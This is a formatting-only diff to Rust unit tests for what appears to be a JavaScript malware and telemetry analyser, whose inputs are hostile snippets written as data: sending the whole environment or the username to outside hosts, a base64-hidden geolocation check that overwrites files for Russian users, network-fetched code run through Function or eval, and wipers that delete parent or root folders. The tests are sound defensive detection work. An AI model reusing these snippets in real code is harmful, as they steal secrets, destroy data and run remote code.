@@ -29,7 +29,13 @@ fn proxy_env_sent_with_request_is_not_identity() {
 #[test]
 fn whole_env_posted_through_request_handle() {
     let f = run("const env = process.env; const https = require('https'); const r = https.request({host: 'x.example.com', method: 'POST'}); r.write(JSON.stringify(env)); r.end();");
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::WholeEnvironment)), "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::WholeEnvironment)),
+        "{:#?}",
+        f.flows
+    );
 }
 
 #[test]
@@ -38,20 +44,38 @@ fn flow_through_function_return_and_parameter() {
         function fp() { let c = os.userInfo(); return Buffer.from(c.username + c.homedir).toString('base64'); }
         function send(opts, body) { const e = https.request(opts); e.write(body); e.end(); }
         send({hostname: 'api.github.com'}, JSON.stringify({ body: `fp:${fp()}` }));");
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Username)), "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Username)),
+        "{:#?}",
+        f.flows
+    );
 }
 
 #[test]
 fn base64_geoip_url_and_country_name_guard_over_destructive_function() {
-    let f = run(r#"import u from "path"; import a from "fs"; import o from "https";
+    let f = run(
+        r#"import u from "path"; import a from "fs"; import o from "https";
         const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9eA==", "base64");
         o.get(n.toString("utf8"), function (t) { t.on("data", function (t) {
             const c = Buffer.from("Y291bnRyeV9uYW1l", "base64"); const e = Buffer.from("cnVzc2lh", "base64");
             const s = JSON.parse(t.toString("utf8")); const v = s[c.toString("utf8")].toLowerCase();
             const hit = v.includes(e.toString("utf8")); if (hit) { h("./"); } }); });
-        function h(n) { let r = []; try { r = a.readdirSync(n) } catch (x) {} for (var i = 0; i < r.length; i++) { const p = u.join(n, r[i]); a.writeFile(p, "x", function () {}); } }"#);
-    assert!(f.endpoints.iter().any(|e| e.host == "api.ipgeolocation.io" && !e.encodings.is_empty()), "{:#?}", f.endpoints);
-    assert!(f.obfuscations.iter().any(|o| o.decoded == "russia"), "{:#?}", f.obfuscations);
+        function h(n) { let r = []; try { r = a.readdirSync(n) } catch (x) {} for (var i = 0; i < r.length; i++) { const p = u.join(n, r[i]); a.writeFile(p, "x", function () {}); } }"#,
+    );
+    assert!(
+        f.endpoints
+            .iter()
+            .any(|e| e.host == "api.ipgeolocation.io" && !e.encodings.is_empty()),
+        "{:#?}",
+        f.endpoints
+    );
+    assert!(
+        f.obfuscations.iter().any(|o| o.decoded == "russia"),
+        "{:#?}",
+        f.obfuscations
+    );
     assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
     assert_eq!(f.region_guards[0].countries, vec!["RU"]);
     assert!(f.region_guards[0].effects.contains(&Effect::Destructive));
@@ -60,8 +84,10 @@ fn base64_geoip_url_and_country_name_guard_over_destructive_function() {
 
 #[test]
 fn time_zone_list_with_early_return_guards_the_rest() {
-    let f = run(r#"if (["Europe/Moscow", "Asia/Omsk"].indexOf(new Intl.DateTimeFormat().resolvedOptions().timeZone) === -1) { return; }
-        console.log("hello");"#);
+    let f = run(
+        r#"if (["Europe/Moscow", "Asia/Omsk"].indexOf(new Intl.DateTimeFormat().resolvedOptions().timeZone) === -1) { return; }
+        console.log("hello");"#,
+    );
     assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
     assert_eq!(f.region_guards[0].countries, vec!["RU"]);
     assert_eq!(f.region_guards[0].effects, vec![Effect::Message]);
@@ -69,15 +95,19 @@ fn time_zone_list_with_early_return_guards_the_rest() {
 
 #[test]
 fn minified_positive_index_guard() {
-    let f = run(r#"var t;-1!==["Europe/Moscow","W-SU"].indexOf((new Intl.DateTimeFormat).resolvedOptions().timeZone)&&(t=function(){},alert("x"),window.open("http://x.org"));"#);
+    let f = run(
+        r#"var t;-1!==["Europe/Moscow","W-SU"].indexOf((new Intl.DateTimeFormat).resolvedOptions().timeZone)&&(t=function(){},alert("x"),window.open("http://x.org"));"#,
+    );
     assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
     assert!(f.region_guards[0].effects.contains(&Effect::UiSabotage));
 }
 
 #[test]
 fn locale_regex_and_page_tld_guard() {
-    let f = run(r#"if (typeof window !== 'undefined' && /^ru\b/.test(navigator.language) && location.host.match(/\.(ru|su|by|xn--p1ai)$/)) {
-        setTimeout(() => { document.body.style.pointerEvents = 'none'; }, 500) }"#);
+    let f = run(
+        r#"if (typeof window !== 'undefined' && /^ru\b/.test(navigator.language) && location.host.match(/\.(ru|su|by|xn--p1ai)$/)) {
+        setTimeout(() => { document.body.style.pointerEvents = 'none'; }, 500) }"#,
+    );
     assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
     assert!(f.region_guards[0].countries.contains(&"RU".to_string()));
     assert!(f.region_guards[0].effects.contains(&Effect::UiSabotage));
@@ -85,21 +115,31 @@ fn locale_regex_and_page_tld_guard() {
 
 #[test]
 fn locale_used_to_pick_a_translation_names_no_effect() {
-    let f = run(r#"function msg() { if (navigator.language.startsWith("zh")) { return "你好"; } return "hello"; }"#);
-    assert!(f.region_guards.iter().all(|g| g.effects.is_empty()), "{:#?}", f.region_guards);
+    let f = run(
+        r#"function msg() { if (navigator.language.startsWith("zh")) { return "你好"; } return "hello"; }"#,
+    );
+    assert!(
+        f.region_guards.iter().all(|g| g.effects.is_empty()),
+        "{:#?}",
+        f.region_guards
+    );
 }
 
 #[test]
 fn time_zone_compared_with_utc_is_no_guard() {
-    let f = run(r#"if (Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC") { console.log("utc"); }"#);
+    let f = run(
+        r#"if (Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC") { console.log("utc"); }"#,
+    );
     assert!(f.region_guards.is_empty());
 }
 
 #[test]
 fn function_constructor_from_folded_typeof_runs_network_data() {
-    let f = run(r#"var http = require('http'); http.get({host: '1.2.3.4', path: '/u.json'}, function(response) {
+    let f = run(
+        r#"var http = require('http'); http.get({host: '1.2.3.4', path: '/u.json'}, function(response) {
         var body = ''; response.on('data', function(d) { body += d; });
-        response.on('end', function() { var f = this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; o = new f(body); o(); }); });"#);
+        response.on('end', function() { var f = this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; o = new f(body); o(); }); });"#,
+    );
     assert_eq!(f.dynamic_code.len(), 1, "{:#?}", f.dynamic_code);
     assert_eq!(f.dynamic_code[0].api, "Function");
 }
@@ -126,56 +166,95 @@ fn plain_base64_of_boring_text_is_not_obfuscation() {
 #[test]
 fn char_codes_decode() {
     let f = run("const m = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,116,111,112,47);");
-    assert!(f.endpoints.iter().any(|e| e.host == "evil.top"), "{:#?}", f.endpoints);
+    assert!(
+        f.endpoints.iter().any(|e| e.host == "evil.top"),
+        "{:#?}",
+        f.endpoints
+    );
 }
 
 #[test]
 fn deep_nesting_does_not_overflow() {
     let depth = 10_000;
     let src = format!("var x = {}1{};", "(".repeat(depth), ")".repeat(depth));
-    let handle = std::thread::Builder::new().stack_size(256 << 20).spawn(move || run(&src)).unwrap();
+    let handle = std::thread::Builder::new()
+        .stack_size(256 << 20)
+        .spawn(move || run(&src))
+        .unwrap();
     let _ = handle.join().unwrap();
 }
 
 #[test]
 fn garbage_does_not_panic() {
-    for src in ["}{", "function (", "\u{0}\u{1}\u{2}", "`${", "/[/", "a?.b?.(", "import(", ""] {
+    for src in [
+        "}{",
+        "function (",
+        "\u{0}\u{1}\u{2}",
+        "`${",
+        "/[/",
+        "a?.b?.(",
+        "import(",
+        "",
+    ] {
         let _ = run(src);
     }
 }
 
 #[test]
 fn typescript_parses() {
-    let f = analyze("x.ts", "import * as os from 'os'; const h: string = os.hostname(); fetch(`https://x.io/?h=${h}`);", &Options::default());
+    let f = analyze(
+        "x.ts",
+        "import * as os from 'os'; const h: string = os.hostname(); fetch(`https://x.io/?h=${h}`);",
+        &Options::default(),
+    );
     assert_eq!(f.flows.len(), 1, "{:#?} {:?}", f.flows, f.diagnostics);
 }
 
 #[test]
 fn file_read_at_home_path_is_not_the_home_directory() {
-    let f = run("const os = require('os'), net = require('net'); const load = () => require('fs');
+    let f = run(
+        "const os = require('os'), net = require('net'); const load = () => require('fs');
         const cfg = JSON.parse(load().readFileSync(os.homedir() + '/.app/lock.json', 'utf8'));
-        net.createConnection({ host: cfg.host, port: cfg.port });");
+        net.createConnection({ host: cfg.host, port: cfg.port });",
+    );
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
 }
 
 #[test]
 fn constant_code_passed_to_eval_is_analysed_as_nested_source() {
-    let f = run(r#"const p = Buffer.from("cmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8veC5leGFtcGxlLmNvbS8/dT0iICsgcmVxdWlyZSgib3MiKS51c2VySW5mbygpLnVzZXJuYW1lKQ==", "base64").toString(); eval(p);"#);
+    let f = run(
+        r#"const p = Buffer.from("cmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8veC5leGFtcGxlLmNvbS8/dT0iICsgcmVxdWlyZSgib3MiKS51c2VySW5mbygpLnVzZXJuYW1lKQ==", "base64").toString(); eval(p);"#,
+    );
     assert_eq!(f.nested.len(), 1, "{:#?}", f.diagnostics);
     let inner = &f.nested[0];
     assert_eq!(inner.facts.file, "t.js › eval#1");
-    assert!(inner.facts.flows.iter().any(|fl| fl.kinds.contains(DataKind::Username)), "{:#?}", inner.facts.flows);
+    assert!(
+        inner
+            .facts
+            .flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Username)),
+        "{:#?}",
+        inner.facts.flows
+    );
     // Locations index the nested code.
     let flow = &inner.facts.flows[0];
     assert!(inner.text[flow.span.start as usize..].starts_with("require(\"https\").get"));
-    assert!(f.obfuscations.iter().any(|o| o.technique.contains("code run by eval")));
+    assert!(f
+        .obfuscations
+        .iter()
+        .any(|o| o.technique.contains("code run by eval")));
 }
 
 #[test]
 fn function_constructor_body_is_the_last_argument() {
     let f = run(r#"const g = new Function("a", "return require('os').hostname() + a"); g(1);"#);
     assert_eq!(f.nested.len(), 1);
-    assert!(f.nested[0].facts.sources.iter().any(|s| s.kind == DataKind::Hostname));
+    assert!(f.nested[0]
+        .facts
+        .sources
+        .iter()
+        .any(|s| s.kind == DataKind::Hostname));
 }
 
 #[test]
@@ -186,16 +265,33 @@ fn nested_eval_depth_is_bounded() {
         code = format!("eval({});", serde_json_escape(&code));
     }
     let f = run(&code);
-    let depth = f.nested.iter().map(|n| n.facts.file.matches("eval#").count()).max().unwrap_or(0);
+    let depth = f
+        .nested
+        .iter()
+        .map(|n| n.facts.file.matches("eval#").count())
+        .max()
+        .unwrap_or(0);
     assert!(depth <= 4, "depth {depth}");
-    let all_diags: Vec<&String> = std::iter::once(&f.diagnostics).chain(f.nested.iter().map(|n| &n.facts.diagnostics)).flatten().collect();
-    assert!(all_diags.iter().any(|d| d.contains("nesting or size limit")), "{all_diags:?}");
+    let all_diags: Vec<&String> = std::iter::once(&f.diagnostics)
+        .chain(f.nested.iter().map(|n| &n.facts.diagnostics))
+        .flatten()
+        .collect();
+    assert!(
+        all_diags
+            .iter()
+            .any(|d| d.contains("nesting or size limit")),
+        "{all_diags:?}"
+    );
 }
 
 #[test]
 fn short_or_non_code_strings_are_not_nested_sources() {
     let f = run(r#"eval("x"); setTimeout("hello there, world!!", 10);"#);
-    assert!(f.nested.is_empty(), "{:#?}", f.nested.iter().map(|n| &n.text).collect::<Vec<_>>());
+    assert!(
+        f.nested.is_empty(),
+        "{:#?}",
+        f.nested.iter().map(|n| &n.text).collect::<Vec<_>>()
+    );
 }
 
 fn serde_json_escape(s: &str) -> String {
@@ -216,9 +312,20 @@ fn identity_under_a_telemetry_attribute_key_is_a_flow() {
     let f = run("const os = require('os'); class C { constructor(o) { this.o = { serverName: o.serverName || process.env.SENTRY_NAME || os.hostname() }; } }
         const attrs = { [semconv.SEMRESATTRS_HOST_NAME]: os.hostname(), other: 1 };");
     let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
-    assert!(sinks.contains(&"telemetry attribute serverName"), "{sinks:?}");
-    assert!(sinks.contains(&"telemetry attribute SEMRESATTRS_HOST_NAME"), "{sinks:?}");
-    assert!(f.flows.iter().all(|fl| fl.sink == SinkKind::TelemetryAttribute && fl.kinds.contains(DataKind::Hostname)));
+    assert!(
+        sinks.contains(&"telemetry attribute serverName"),
+        "{sinks:?}"
+    );
+    assert!(
+        sinks.contains(&"telemetry attribute SEMRESATTRS_HOST_NAME"),
+        "{sinks:?}"
+    );
+    assert!(
+        f.flows
+            .iter()
+            .all(|fl| fl.sink == SinkKind::TelemetryAttribute
+                && fl.kinds.contains(DataKind::Hostname))
+    );
 }
 
 #[test]
@@ -230,44 +337,82 @@ fn non_identity_under_a_telemetry_attribute_key_is_quiet() {
 #[test]
 fn require_made_by_create_require_loads_modules() {
     let f = run("import { createRequire as c } from 'node:module'; var r = c(import.meta.url); var o = r('os'); fetch('https://x.example.com/?h=' + o.hostname());");
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
 }
 
 #[test]
 fn awaited_dynamic_import_is_the_module() {
-    let f = run("const os = await import('node:os'); fetch('https://x.example.com/?h=' + os.hostname());");
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
+    let f = run(
+        "const os = await import('node:os'); fetch('https://x.example.com/?h=' + os.hostname());",
+    );
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
     // A module whose name is not known names nothing.
     let f = run("const m = await import(process.argv[2]); fetch('https://x.example.com/?h=' + m.hostname());");
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
 }
 
 fn opt_outs(f: &FileFacts) -> Vec<(String, String)> {
-    f.opt_outs.iter().map(|o| (o.setting.clone(), o.check.clone())).collect()
+    f.opt_outs
+        .iter()
+        .map(|o| (o.setting.clone(), o.check.clone()))
+        .collect()
 }
 
 #[test]
 fn early_return_on_an_opt_out_gates_the_send() {
     let f = run("const os = require('os'), https = require('https');
         function report() { if (process.env.DISABLE_TELEMETRY || process.env.DO_NOT_TRACK) return; https.request({ host: 't.example.com', path: '/?h=' + os.hostname() }).end(); }");
-    assert_eq!(opt_outs(&f), vec![("DISABLE_TELEMETRY".into(), "presence".into()), ("DO_NOT_TRACK".into(), "presence".into())]);
-    assert_eq!(f.flows[0].gated_by, vec!["DISABLE_TELEMETRY", "DO_NOT_TRACK"]);
-    assert!(f.opt_outs[0].gated_calls.iter().any(|c| c.starts_with("https.request")), "{:?}", f.opt_outs[0].gated_calls);
+    assert_eq!(
+        opt_outs(&f),
+        vec![
+            ("DISABLE_TELEMETRY".into(), "presence".into()),
+            ("DO_NOT_TRACK".into(), "presence".into())
+        ]
+    );
+    assert_eq!(
+        f.flows[0].gated_by,
+        vec!["DISABLE_TELEMETRY", "DO_NOT_TRACK"]
+    );
+    assert!(
+        f.opt_outs[0]
+            .gated_calls
+            .iter()
+            .any(|c| c.starts_with("https.request")),
+        "{:?}",
+        f.opt_outs[0].gated_calls
+    );
 }
 
 #[test]
 fn value_check_alias_and_predicate_function() {
     let f = run("const off = process.env.MYTOOL_TELEMETRY === '0'; function telemetryOff() { return off; }
         if (!telemetryOff()) { fetch('https://t.example.com', { body: require('os').userInfo().username }); }");
-    assert_eq!(opt_outs(&f), vec![("MYTOOL_TELEMETRY".into(), "value".into())]);
+    assert_eq!(
+        opt_outs(&f),
+        vec![("MYTOOL_TELEMETRY".into(), "value".into())]
+    );
     assert_eq!(f.opt_outs[0].values, vec!["0"]);
     assert_eq!(f.flows[0].gated_by, vec!["MYTOOL_TELEMETRY"]);
 }
 
 #[test]
 fn gate_reaches_local_functions_called_from_gated_code() {
-    let f = run("function send() { fetch('https://t.example.com', { body: require('os').hostname() }); }
-        process.env.DO_NOT_TRACK || send();");
+    let f = run(
+        "function send() { fetch('https://t.example.com', { body: require('os').hostname() }); }
+        process.env.DO_NOT_TRACK || send();",
+    );
     assert_eq!(f.flows.len(), 1);
     assert_eq!(f.flows[0].gated_by, vec!["DO_NOT_TRACK"]);
 }
@@ -275,7 +420,10 @@ fn gate_reaches_local_functions_called_from_gated_code() {
 #[test]
 fn config_key_is_an_opt_out() {
     let f = run("const cfg = vscode.workspace.getConfiguration('telemetry'); if (cfg.get('telemetryLevel') === 'off') { return; } sendEvent();");
-    assert_eq!(opt_outs(&f), vec![("telemetry.telemetryLevel".into(), "value".into())]);
+    assert_eq!(
+        opt_outs(&f),
+        vec![("telemetry.telemetryLevel".into(), "value".into())]
+    );
 }
 
 #[test]
@@ -301,8 +449,20 @@ fn field_read_whole_object_and_nested_write_still_flow() {
         const info = { v: 1 }; info.meta = {}; info.meta.host = os.hostname();
         https.get('https://t.example.com/?h=' + info.meta.host);
         const o = { a: os.userInfo().username }; https.request({ host: 't.example.com' }).end(JSON.stringify(o));");
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
-    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Username)), "{:#?}", f.flows);
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        f.flows
+    );
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Username)),
+        "{:#?}",
+        f.flows
+    );
 }
 
 #[test]
@@ -311,7 +471,13 @@ fn object_argument_fields_reach_parameter_reads() {
     let pos = run("const os = require('os');
         function send(opts) { fetch(opts.url, { method: 'POST', body: opts.body }); }
         send({ url: 'https://t.example.com/e', body: os.hostname() });");
-    assert!(pos.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", pos.flows);
+    assert!(
+        pos.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        pos.flows
+    );
     let neg = run("const os = require('os');
         function send(opts) { fetch(opts.url); }
         send({ url: 'https://t.example.com/e', body: os.hostname() });");
@@ -324,8 +490,18 @@ fn field_flow_steps_name_the_property_write() {
         const ev = {}; ev.machine = os.hostname();
         https.get('https://t.example.com/?m=' + ev.machine);");
     let steps: Vec<&str> = f.flows[0].steps.iter().map(|s| s.what.as_str()).collect();
-    assert!(steps.iter().any(|s| s.contains("ev.machine = os.hostname()")), "{steps:#?}");
-    assert!(steps.first().is_some_and(|s| s.starts_with("reads os.hostname")), "{steps:#?}");
+    assert!(
+        steps
+            .iter()
+            .any(|s| s.contains("ev.machine = os.hostname()")),
+        "{steps:#?}"
+    );
+    assert!(
+        steps
+            .first()
+            .is_some_and(|s| s.starts_with("reads os.hostname")),
+        "{steps:#?}"
+    );
 }
 
 #[test]
@@ -335,8 +511,14 @@ fn destination_from_constant_url_start_and_request_handle() {
         const r = https.request({ hostname: 'collect.example.net', method: 'POST' }); r.end(os.userInfo().username);
         fetch(`https://${os.hostname()}.example.org/`);");
     let hosts: Vec<Vec<String>> = f.flows.iter().map(|fl| fl.endpoints.clone()).collect();
-    assert!(hosts.contains(&vec!["t.example.com".to_string()]), "{hosts:?}");
-    assert!(hosts.contains(&vec!["collect.example.net".to_string()]), "{hosts:?}");
+    assert!(
+        hosts.contains(&vec!["t.example.com".to_string()]),
+        "{hosts:?}"
+    );
+    assert!(
+        hosts.contains(&vec!["collect.example.net".to_string()]),
+        "{hosts:?}"
+    );
     // The host itself is built from data: no constant destination.
     assert!(hosts.iter().any(|h| h.is_empty()), "{hosts:?}");
 }
@@ -344,7 +526,9 @@ fn destination_from_constant_url_start_and_request_handle() {
 /// Where `needle` first occurs in `src`, as `literal at line:col` (1-based, column in bytes),
 /// counted here rather than with the front end's line index.
 pub(crate) fn literal_at(src: &str, needle: &str) -> String {
-    let at = src.find(needle).unwrap_or_else(|| panic!("{needle} not in source"));
+    let at = src
+        .find(needle)
+        .unwrap_or_else(|| panic!("{needle} not in source"));
     location(src, at as u32)
 }
 
@@ -357,13 +541,19 @@ pub(crate) fn location(src: &str, at: u32) -> String {
 
 /// The obfuscation fact of a decoded value.
 fn obfuscation<'f>(f: &'f FileFacts, decoded: &str) -> &'f telltale_facts::ObfuscationFact {
-    f.obfuscations.iter().find(|o| o.decoded == decoded).unwrap_or_else(|| panic!("{decoded} not decoded: {:#?}", f.obfuscations))
+    f.obfuscations
+        .iter()
+        .find(|o| o.decoded == decoded)
+        .unwrap_or_else(|| panic!("{decoded} not decoded: {:#?}", f.obfuscations))
 }
 
 /// Analyse `src` and check that `decoded` is traced to `technique` and the first `literal`.
 fn assert_provenance(src: &str, decoded: &str, technique: &str, literal: &str) -> FileFacts {
     let f = run(src);
-    assert_eq!(obfuscation(&f, decoded).provenance, format!("{technique} → {}", literal_at(src, literal)));
+    assert_eq!(
+        obfuscation(&f, decoded).provenance,
+        format!("{technique} → {}", literal_at(src, literal))
+    );
     f
 }
 
@@ -385,18 +575,30 @@ fn base64_provenance_names_the_literal_behind_a_variable() {
     let f = assert_provenance(&src, url, "base64", &lit);
     let o = obfuscation(&f, url);
     let start = src.find(&lit).unwrap() as u32;
-    assert_eq!(o.origin, Some(telltale_facts::Span::new(start, start + lit.len() as u32)));
+    assert_eq!(
+        o.origin,
+        Some(telltale_facts::Span::new(start, start + lit.len() as u32))
+    );
     // The decoding call is elsewhere: the span stays where the value is decoded.
     assert_eq!(o.span.start, src.find("atob(k)").unwrap() as u32);
-    let e = f.endpoints.iter().find(|e| e.host == "prov-b64.example.net").expect("endpoint");
-    assert_eq!((e.provenance.as_str(), e.origin), (o.provenance.as_str(), o.origin));
+    let e = f
+        .endpoints
+        .iter()
+        .find(|e| e.host == "prov-b64.example.net")
+        .expect("endpoint");
+    assert_eq!(
+        (e.provenance.as_str(), e.origin),
+        (o.provenance.as_str(), o.origin)
+    );
 }
 
 #[test]
 fn hex_provenance() {
     let url = "https://prov-hex.example.net/";
     let lit = format!("'{}'", hex(url));
-    let src = format!("const a = 'https://plain.example.com/';\n  fetch(Buffer.from({lit}, 'hex').toString());\n");
+    let src = format!(
+        "const a = 'https://plain.example.com/';\n  fetch(Buffer.from({lit}, 'hex').toString());\n"
+    );
     assert_provenance(&src, url, "hex", &lit);
 }
 
@@ -413,13 +615,26 @@ fn split_literal_provenance_names_the_first_part() {
     let encoded = b64("https://prov-split.example.net/");
     let (a, b) = encoded.split_at(10);
     let src = format!("const x = 1;\nfetch(atob('{a}' +\n  '{b}'));\n");
-    assert_provenance(&src, "https://prov-split.example.net/", "base64", &format!("'{a}'"));
+    assert_provenance(
+        &src,
+        "https://prov-split.example.net/",
+        "base64",
+        &format!("'{a}'"),
+    );
 }
 
 #[test]
 fn char_code_provenance_names_the_array_or_first_code() {
-    let codes = |s: &str| s.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(", ");
-    let (u1, u2) = ("https://prov-cc1.example.org/", "https://prov-cc2.example.org/");
+    let codes = |s: &str| {
+        s.bytes()
+            .map(|b| b.to_string())
+            .collect::<Vec<_>>()
+            .join(", ")
+    };
+    let (u1, u2) = (
+        "https://prov-cc1.example.org/",
+        "https://prov-cc2.example.org/",
+    );
     let arr = format!("[{}]", codes(u1));
     let list = codes(u2);
     let src = format!("const n = [1, 2];\nconst codes = {arr};\nconst a = String.fromCharCode.apply(null, codes);\nconst b = String.fromCharCode(\n  {list});\n");
@@ -432,7 +647,11 @@ fn hidden_code_provenance_names_its_literal() {
     let lit = format!("'{}'", b64("const os = require('os'); fetch('https://nested.example.net/', { body: os.hostname() });"));
     let src = format!("const a = 0;\n  eval(atob({lit}));\n");
     let f = run(&src);
-    let o = f.obfuscations.iter().find(|o| o.technique == "base64 → code run by eval").unwrap_or_else(|| panic!("{:#?}", f.obfuscations));
+    let o = f
+        .obfuscations
+        .iter()
+        .find(|o| o.technique == "base64 → code run by eval")
+        .unwrap_or_else(|| panic!("{:#?}", f.obfuscations));
     assert_eq!(o.provenance, format!("base64 → {}", literal_at(&src, &lit)));
 }
 
@@ -441,22 +660,40 @@ fn writing_computed_output_for_each_listed_file_is_no_wiper() {
     // A build step: each template compiled into a new file.
     let build = run("const fs = require('fs'), path = require('path');
         fs.readdirSync('./tpl').forEach(function (f) { const code = compile(fs.readFileSync(path.join('./tpl', f))); fs.writeFileSync(path.join('./out', f + '.js'), code); });");
-    assert!(build.destructive.iter().all(|d| !d.mass), "{:#?}", build.destructive);
+    assert!(
+        build.destructive.iter().all(|d| !d.mass),
+        "{:#?}",
+        build.destructive
+    );
     // A wiper: the same content over every listed file.
     let wiper = run("const fs = require('fs'), path = require('path');
         fs.readdirSync('../').forEach(function (f) { fs.writeFileSync(path.join('../', f), '\\u2764'); });");
-    assert!(wiper.destructive.iter().any(|d| d.mass), "{:#?}", wiper.destructive);
+    assert!(
+        wiper.destructive.iter().any(|d| d.mass),
+        "{:#?}",
+        wiper.destructive
+    );
 }
 
 #[test]
 fn deleting_entries_of_an_own_folder_is_cleanup_but_of_parents_is_wiping() {
-    let cleanup = run("const fs = require('fs'), path = require('path'), os = require('os');
+    let cleanup = run(
+        "const fs = require('fs'), path = require('path'), os = require('os');
         const dir = path.join(os.tmpdir(), 'mytool-cache');
-        for (const f of fs.readdirSync(dir)) fs.unlinkSync(path.join(dir, f));");
-    assert!(cleanup.destructive.iter().all(|d| !d.mass), "{:#?}", cleanup.destructive);
+        for (const f of fs.readdirSync(dir)) fs.unlinkSync(path.join(dir, f));",
+    );
+    assert!(
+        cleanup.destructive.iter().all(|d| !d.mass),
+        "{:#?}",
+        cleanup.destructive
+    );
     let wiper = run("const fs = require('fs'), path = require('path');
         for (const f of fs.readdirSync('../../')) fs.rmSync(path.join('../../', f), { recursive: true });");
-    assert!(wiper.destructive.iter().any(|d| d.mass), "{:#?}", wiper.destructive);
+    assert!(
+        wiper.destructive.iter().any(|d| d.mass),
+        "{:#?}",
+        wiper.destructive
+    );
 }
 
 #[test]
@@ -467,7 +704,11 @@ fn a_listing_of_the_working_directory_elsewhere_does_not_make_cleanup_wiping() {
         function pick() { return fs.readdirSync('.').filter(n => n.endsWith('.json')); }
         function cleanup() { const d = path.join(os.tmpdir(), 'sandbox-mounts');
             for (const o of fs.readdirSync(d)) { if (fs.statSync(path.join(d, o)).size === 0) fs.unlinkSync(path.join(d, o)); } }");
-    assert!(f.destructive.iter().all(|d| !d.mass), "{:#?}", f.destructive);
+    assert!(
+        f.destructive.iter().all(|d| !d.mass),
+        "{:#?}",
+        f.destructive
+    );
 }
 
 #[test]
@@ -479,18 +720,28 @@ fn a_walker_started_on_the_root_by_any_caller_is_wiping() {
         walk('/'); walk(process.argv[2]);");
     assert!(f.destructive.iter().any(|d| d.mass), "{:#?}", f.destructive);
     // The same walker started only on its own folder cleans up.
-    let own = run("const fs = require('fs'), path = require('path'), os = require('os');
+    let own = run(
+        "const fs = require('fs'), path = require('path'), os = require('os');
         function walk(dir) { for (const e of fs.readdirSync(dir)) { const p = path.join(dir, e);
             if (fs.statSync(p).isDirectory()) walk(p); else fs.unlinkSync(p); } }
-        walk(path.join(os.tmpdir(), 'build-cache'));");
-    assert!(own.destructive.iter().all(|d| !d.mass), "{:#?}", own.destructive);
+        walk(path.join(os.tmpdir(), 'build-cache'));",
+    );
+    assert!(
+        own.destructive.iter().all(|d| !d.mass),
+        "{:#?}",
+        own.destructive
+    );
 }
 
 #[test]
 fn exclusive_create_for_each_listed_name_destroys_nothing() {
     let f = run("const fs = require('fs');
         for (const f of fs.readdirSync('../')) fs.writeFileSync(f + '.lock', '', { flag: 'wx' });");
-    assert!(f.destructive.iter().all(|d| !d.mass), "{:#?}", f.destructive);
+    assert!(
+        f.destructive.iter().all(|d| !d.mass),
+        "{:#?}",
+        f.destructive
+    );
 }
 
 /// `looks_minified` skips most of the text; it must answer as a plain scan of every line does.
@@ -523,7 +774,12 @@ fn looks_minified_matches_a_scan_of_every_line() {
                 src.push(b'\n');
             }
         }
-        assert_eq!(crate::looks_minified(&src), plain(&src), "case {case}: {} bytes", src.len());
+        assert_eq!(
+            crate::looks_minified(&src),
+            plain(&src),
+            "case {case}: {} bytes",
+            src.len()
+        );
     }
     assert!(!crate::looks_minified(b""));
     assert!(crate::looks_minified(&[b'x'; 5001]));
@@ -540,10 +796,20 @@ fn timer_with_a_bound_function_runs_no_network_code() {
            setInterval((() => client.ping()).bind(client), 100);
          });",
     );
-    assert!(!f.dynamic_code.iter().any(|d| d.from_network), "{:#?}", f.dynamic_code);
+    assert!(
+        !f.dynamic_code.iter().any(|d| d.from_network),
+        "{:#?}",
+        f.dynamic_code
+    );
     // A string built from what the socket sent still is code.
     let f = run("const net = require('net'); const s = net.connect({}); s.on('data', (d) => { setTimeout('run(' + d + ')', 10); });");
-    assert!(f.dynamic_code.iter().any(|d| d.from_network && d.api == "setTimeout"), "{:#?}", f.dynamic_code);
+    assert!(
+        f.dynamic_code
+            .iter()
+            .any(|d| d.from_network && d.api == "setTimeout"),
+        "{:#?}",
+        f.dynamic_code
+    );
 }
 
 #[test]
@@ -552,6 +818,10 @@ fn flow_files_are_read_as_typescript_not_left_unparsed() {
